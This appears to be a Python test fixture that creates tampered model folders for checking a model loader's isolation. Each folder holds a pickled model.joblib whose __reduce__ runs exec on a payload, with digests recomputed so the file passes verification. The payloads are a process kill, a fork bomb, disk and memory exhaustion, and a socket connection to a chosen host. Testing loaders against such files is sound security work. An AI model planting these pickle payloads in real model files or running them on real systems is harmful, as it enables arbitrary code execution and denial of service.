"""Versions whose model file does what it should not when it is loaded."""

import hashlib
import json
import pickle
import shutil
from pathlib import Path
from typing import Any

DIES = "import os; os._exit(1)"

FORKS = """
import os, time
for _ in range(600):
    if os.fork() == 0:
        time.sleep(15)
        os._exit(0)
"""

FILLS = """
import os
failures = []
for place in ("/tmp", "/run", "/socket", "/version", "/opt/venv", "/"):
    try:
        with open(os.path.join(place, "filler"), "wb") as file:
            for _ in range(300):
                file.write(b"x" * 1_000_000)
                file.flush()
    except OSError as error:
        failures.append(f"{place}: {error.strerror}")
raise OSError("; ".join(failures))
"""

EATS = """
kept = []
for _ in range(3000):
    kept.append(b"x" * 1_000_000)
"""


def connects_to(host: str, port: int) -> str:
    """Return code that calls an address."""
    return f"import socket; socket.create_connection(({host!r}, {port}), 3)"


class _Payload:
    def __init__(self, code: str) -> None:
        self._code = code

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (self._code, {})


def hostile_folder(good: Path, folder: Path, code: str) -> Path:
    """Copy a version's folder; loading the copy's model file runs some code first of all.

    Its digests are right: this is what a scientist who means harm could log.
    """
    shutil.copytree(good, folder)
    for path in (folder, *folder.rglob("*")):
        path.chmod(0o755 if path.is_dir() else 0o644)
    model = folder / "model.joblib"
    model.write_bytes(pickle.dumps(_Payload(code)))
    manifest = json.loads((folder / "version.json").read_text())
    manifest["engine"] = "sklearn"
    manifest["files"]["model.joblib"] = hashlib.sha256(model.read_bytes()).hexdigest()
    (folder / "version.json").write_text(json.dumps(manifest))
    return folder
